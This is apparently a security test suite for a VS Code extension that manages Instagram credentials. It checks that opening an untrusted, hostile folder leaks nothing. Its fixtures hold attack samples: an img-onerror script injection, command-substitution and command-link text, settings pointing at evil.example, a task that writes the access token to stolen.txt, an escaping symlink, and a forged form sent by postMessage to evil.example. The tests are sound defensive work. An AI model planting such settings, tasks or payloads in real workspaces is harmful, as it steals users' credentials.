import assert from 'node:assert/strict';
import { mkdir, mkdtemp, readdir, readFile, rm, symlink, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { eventually } from '../workbench/waiting';
import { expectWelcome } from './accountsView';
import { choose, inputsOf, sitDown, start, typeInputs, valueOf, type Desk } from './flow';

const NAME = '<img src=x onerror=alert(1)> $(trash) [Free](command:workbench.action.quit) Bak\u202Eyre\u200B\nB';
/** The same text as it may be shown: none of it has an effect. */
const SHOWN = '<img src=x onerror=alert(1)> $ (trash) [Free] (command:workbench.action.quit) Bak yre B';
const MEGABYTE = 'M'.repeat(1024 * 1024);
const FOREIGN = '{ "theirs": true }\n';

/** The files of a malicious repository. */
const REPOSITORY = {
  '.vscode/settings.json': JSON.stringify({
    'agoras.graphApi.baseUrl': 'https://evil.example',
    'agoras.graphApi.version': 25,
    'agoras.graphApi.timeoutSeconds': 'for ever',
    'agoras.dotenv.path': '../outside/.env',
    'agoras.destination': 'dotenv',
    'agoras.executable': './agoras',
    'agoras.expiry.warnDays': {},
    'agoras.statusBar.visibility': ['never'],
  }),
  '.vscode/tasks.json': JSON.stringify({
    version: '2.0.0',
    tasks: [{ label: 'steal', type: 'shell', command: 'echo ${command:agoras.accessToken} > stolen.txt' }],
  }),
};

/** The person's own keyboard shortcut for a command that isn't in the palette. */
const KEYS = JSON.stringify([{ key: 'ctrl+alt+9', command: 'agoras.accessToken' }]);

/** The first message would ask for the secret; the others have forms unknown to the walkthrough. */
const FORGED = [
  { kind: 'render', html: '<form action="https://evil.example"><input name="secret"></form>', announcement: '' },
  null,
  7,
  [],
  { kind: 'reveal', step: '__proto__' },
  { kind: 'render', html: { toString: 1 } },
  'last',
];

/** Runs in the page. A sandboxed frame has a different origin, like the webview of another extension. */
const addForeignPage = `{
  const frame = document.createElement('iframe');
  frame.name = 'foreign';
  frame.setAttribute('sandbox', 'allow-scripts');
  document.body.append(frame);
}`;

/** Runs in that frame, which can send messages to all others. */
const sendToEverybody = `(messages) => {
  const send = (page) => {
    for (const message of messages) page.postMessage(message, '*');
    for (let index = 0; index < page.length; index++) send(page[index]);
  };
  send(window.top);
}`;

describe('A person who opens a folder that means no good, and does not trust it', () => {
  let desk: Desk;
  let outside: string;
  let dataDir: string;
  const dialogs: string[] = [];

  before(async () => {
    outside = await mkdtemp(join(tmpdir(), 'agoras-outside-'));
    dataDir = await mkdtemp(join(tmpdir(), 'agoras-workbench-'));
    await writeFile(join(outside, 'launch.json'), FOREIGN);
    await mkdir(join(dataDir, 'data', 'User'), { recursive: true });
    await writeFile(join(dataDir, 'data', 'User', 'keybindings.json'), KEYS);
    desk = await sitDown(REPOSITORY, {
      asksForTrust: true,
      dataDir,
      userSettings: {
        'security.workspace.trust.startupPrompt': 'never',
        'agoras.objectId': 'instagramAccount',
        'agoras.agorasVersion': '1.x',
      },
      prepare: (page) =>
        Promise.resolve(
          page.on('dialog', (dialog) => {
            dialogs.push(dialog.message());
            void dialog.dismiss();
          }),
        ),
    });
    await symlink(join(outside, 'launch.json'), join(desk.workspace, '.vscode', 'launch.json'));
    desk.sandbox.fault({ on: /^\/me$/, kind: 'custom', body: rename });
  });
  after(async () => {
    await desk.close();
    for (const folder of [outside, dataDir]) await rm(folder, { recursive: true, force: true, maxRetries: 5 });
  });

  /** Facebook's answer, with other names in it. */
  function rename(body: string): string {
    const { adaInstagram, adaPlain } = desk.sandbox.pages;
    return JSON.stringify(JSON.parse(body), (key, value: unknown) => {
      if (key === 'name') return value === adaPlain.name ? MEGABYTE : NAME;
      return key === 'username' && value === adaInstagram.instagram.username ? NAME : value;
    });
  }

  /** What VS Code has rendered from a name: links and images. */
  async function drawn(): Promise<string[]> {
    return desk.workbench.page
      .locator('.notification-list-item-message a, .quick-input-list a[href], img[src="x"]')
      .allInnerTexts();
  }

  it('reads in the sidebar what Restricted Mode means here', async () => {
    const { workbench } = desk;
    await workbench.openSidebar('Agoras');
    await expectWelcome(workbench, /Restricted Mode/, ['Get Instagram Credentials', 'Manage Trust']);
    await workbench.screenshot('accounts-untrusted');
  });

  it('reads names of Pages as the text that they are, cut where nobody would read on', async () => {
    const { workbench, sandbox } = desk;
    await start(workbench);
    await typeInputs(workbench, inputsOf(sandbox, sandbox.shortLivedToken('ada')));
    const { items } = await workbench.quickInput.expect({ placeholder: 'Choose the Page', item: /^M+…$/ });
    await workbench.screenshot('hostile-names');
    for (const { label, description } of items) {
      assert.ok(label.length <= 200 && description.length <= 200, label);
    }
    assert.deepEqual(items[0]?.label, SHOWN);
    assert.deepEqual(items[0].description, `@${SHOWN}`);
    assert.deepEqual(await drawn(), []);
    await workbench.quickInput.pick(SHOWN);
  });

  it('hears that launch.json leads out of the folder, and finds it untouched', async () => {
    const { workbench } = desk;
    await choose(workbench, 'destination', 'launch.json');
    const told = await workbench.notifications.expect('It goes through a link that points outside the folder');
    await workbench.screenshot('hostile-link');
    assert.deepEqual(told.buttons, ['Manage Workspace Trust', 'Choose Another Destination']);
    assert.equal(await readFile(join(outside, 'launch.json'), 'utf8'), FOREIGN);
    await workbench.notifications.clickButton('It goes through a link that points', 'Choose Another Destination');
  });

  it('writes the .env in the folder, whatever its settings say', async () => {
    const { workbench, sandbox } = desk;
    await choose(workbench, 'destination', '.env');
    await workbench.notifications.expect(`The credentials of “${SHOWN}” never expire and are now in .env`);
    await workbench.screenshot('hostile-delivered');
    assert.deepEqual(await drawn(), []);
    const env = await desk.read('.env');
    assert.equal(sandbox.describe(valueOf(env, 'INSTAGRAM_ACCESS_TOKEN'))?.kind, 'PAGE');
    assert.equal(env?.split('\n').length, 4, 'a comment, two values, and no line of anybody’s name');
    assert.deepEqual(await readdir(outside), ['launch.json']);
    assert.ok(sandbox.requests.length > 0, 'the person’s setting counts, not the folder’s');
  });

  it('has nothing sent to the repository on GitHub that the folder names, and hears why', async () => {
    const { workbench } = desk;
    await workbench.runCommand('Agoras: Write Flags to…');
    await choose(workbench, 'destination', 'GitHub Actions');
    const { buttons } = await workbench.notifications.expect(
      'Nothing was sent to GitHub. This workspace isn’t trusted',
    );
    assert.deepEqual(buttons, ['Manage Workspace Trust', 'Choose Another Destination']);
  });

  it('sees the name as text in the sidebar, in tooltips and in the walkthrough', async () => {
    const { workbench } = desk;
    await workbench.clearNotifications();
    await workbench.openSidebar('Agoras');
    const row = workbench.page.locator('.part.sidebar .monaco-list-row', { hasText: SHOWN });
    await row.first().hover();
    await workbench.page.locator('.workbench-hover', { hasText: 'Object ID' }).waitFor();
    await workbench.screenshot('hostile-accounts');
    await workbench.runCommand('Agoras: Open Credentials Walkthrough');
    const frame = await workbench.webviewFrame('Agoras: Instagram Credentials');
    await frame.getByText(SHOWN).first().waitFor();
    assert.equal(await frame.locator('img').count(), 0);
    await workbench.screenshot('hostile-walkthrough');
    assert.deepEqual(dialogs, []);
  });

  it('sees nothing of what another page sends to the walkthrough', async () => {
    const { workbench } = desk;
    const walkthrough = await workbench.webviewFrame('Agoras: Instagram Credentials');
    await walkthrough.evaluate(
      `addEventListener('message', ({ data }) => { if (data === 'last') window.hasHeardAll = true; })`,
    );
    await workbench.page.evaluate(addForeignPage);
    const foreign = await eventually('a page of another origin', () =>
      Promise.resolve(workbench.page.frame('foreign') ?? undefined),
    );
    await foreign.evaluate(`(${sendToEverybody})(${JSON.stringify(FORGED)})`);
    await walkthrough.waitForFunction('window.hasHeardAll === true');
    assert.equal(await walkthrough.locator('form, input:not([type=checkbox], [type=radio])').count(), 0);
    await walkthrough.getByText(SHOWN).first().waitFor();
  });

  it('hands nothing to a task, a launch or a command of the folder, and hears why', async () => {
    const { workbench } = desk;
    await workbench.press('Control+Alt+9');
    await workbench.notifications.expect('The credentials weren’t shared. This workspace isn’t trusted');
    await workbench.screenshot('hostile-handover');
    await workbench.clearNotifications();
    for (const command of ['Debug: Start Debugging', 'Tasks: Run Build Task']) {
      await workbench.runCommand(command);
      await workbench.notifications.expectDialog('Do you trust the authors of the files in this folder?');
      await workbench.notifications.clickDialogButton('Do you trust the authors', 'Cancel');
    }
    assert.equal(await desk.read('stolen.txt'), undefined);
  });
});
